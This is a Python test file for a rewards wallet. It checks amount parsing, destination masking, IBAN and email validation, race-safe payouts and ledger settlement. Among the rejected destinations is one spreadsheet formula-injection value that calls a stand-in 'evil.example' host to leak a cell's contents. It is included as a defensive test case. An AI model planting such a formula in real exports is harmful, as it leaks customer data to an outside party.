"""The wallet's use cases: amounts as typed, masking, and a balance that two payout requests
racing for it cannot overspend (the account's row lock; SQLite's BEGIN IMMEDIATE)."""

from __future__ import annotations

import threading

import pytest

from infomediary.audit.log import Actor
from infomediary.errors import ValidationFailed
from infomediary.instance import Instance
from infomediary.services import Context, rewards, wallet
from tests.factories import make_customer

CTX = Context(Actor.system("test"))


@pytest.mark.parametrize(
    ("raw", "cents"),
    [
        ("5", 500),
        ("5.5", 550),
        ("5.05", 505),
        ("12,50", 1250),
        (" $7.25 ", 725),
        ("0", 0),
        ("5.555", None),
        ("-5", None),
        ("1e3", None),
        ("\uff15", None),  # a full-width digit five
        ("", None),
        ("1_000", None),
    ],
)
def test_amounts_are_read_as_typed_or_refused(raw: str, cents: int | None) -> None:
    assert wallet.parse_amount(raw) == cents


def test_a_destination_is_masked_to_its_last_four_characters() -> None:
    assert wallet.mask("DE89 3704 0044 0532 0130 00") == "•••• 3000"
    assert wallet.mask("ada@example.org") == "•••• .org"


@pytest.mark.parametrize(
    "destination",
    [
        "DE89 3704 0044 0532 0130 00",
        "GB82WEST12345698765432",
        "ada@example.org",
    ],
)
def test_an_iban_or_an_email_address_is_a_destination(inst: Instance, destination: str) -> None:
    customer_id = make_customer(inst)
    _earn(inst, customer_id, 900)
    with inst.sessions() as session:
        payout = wallet.request_payout(
            session, inst, customer_id, wallet.PayoutInput("5", destination), CTX
        )
    assert payout.amount_cents == 500


@pytest.mark.parametrize(
    "destination",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"DE89")',
        "DE88 3704 0044 0532 0130 00",  # the checksum is wrong
        "DE89-3704-0044-0532-0130-00",
        "DE89 3704",
        "paypal ada@example.org",
        "ada@@example.org",
        "ada@example",
        "+1 555 0100 123",
    ],
)
def test_anything_else_is_refused_with_a_field_error(inst: Instance, destination: str) -> None:
    customer_id = make_customer(inst)
    _earn(inst, customer_id, 900)
    with inst.sessions() as session, pytest.raises(ValidationFailed) as refused:
        wallet.request_payout(session, inst, customer_id, wallet.PayoutInput("5", destination), CTX)
    assert refused.value.errors["destination"] == wallet.DESTINATION_ERROR
    with inst.sessions() as session:
        assert wallet.pending_cents(session, customer_id) == 0


def _earn(inst: Instance, customer_id: str, cents: int) -> None:
    with inst.sessions() as session:
        platform = rewards.account(session, *rewards.PLATFORM)
        mine = rewards.account(session, "customer", customer_id)
        rewards.post(session, "reward", [(platform, -cents), (mine, cents)])
        session.commit()


def test_two_requests_racing_for_the_balance_pay_it_once(inst: Instance) -> None:
    customer_id = make_customer(inst)
    _earn(inst, customer_id, 900)
    outcomes: list[str] = []
    start = threading.Barrier(2)

    def ask() -> None:
        with inst.sessions() as session:
            start.wait()
            try:
                wallet.request_payout(
                    session, inst, customer_id, wallet.PayoutInput("9", "ada@example.org"), CTX
                )
                outcomes.append("paid")
            except ValidationFailed as exc:
                outcomes.append(exc.errors["amount"])

    threads = [threading.Thread(target=ask) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    assert sorted(outcomes) == ["You have $0.00 available.", "paid"]
    with inst.sessions() as session:
        assert wallet.available_cents(session, customer_id) == 0
        assert wallet.pending_cents(session, customer_id) == 900
        assert rewards.total_of_all_balances(session) == 0


def test_settling_moves_pending_to_paid_out_and_keeps_the_ledger_balanced(inst: Instance) -> None:
    customer_id = make_customer(inst)
    _earn(inst, customer_id, 2000)
    with inst.sessions() as session:
        wallet.request_payout(
            session, inst, customer_id, wallet.PayoutInput("6", "DE89 3704 0044 0532 0130 00"), CTX
        )
    with inst.sessions() as session:
        wallet.request_payout(
            session, inst, customer_id, wallet.PayoutInput("7", "GB82 WEST 1234 5698 7654 32"), CTX
        )
    with inst.sessions() as session:
        exported = wallet.export_payouts(session, inst, CTX)
    assert sorted((p.amount_cents, p.destination) for p in exported) == [
        (600, "DE89 3704 0044 0532 0130 00"),
        (700, "GB82 WEST 1234 5698 7654 32"),
    ]
    with inst.sessions() as session:
        assert wallet.export_payouts(session, inst, CTX) == []
        paid = rewards.account(session, *wallet.PAID_OUT)
        assert rewards.balance(session, paid.id) == 1300
        assert wallet.pending_cents(session, customer_id) == 0
        assert wallet.available_cents(session, customer_id) == 700
        assert rewards.total_of_all_balances(session) == 0
    with inst.sessions() as session, pytest.raises(ValidationFailed):
        wallet.cancel_payout(session, inst, customer_id, exported[0].id, CTX)
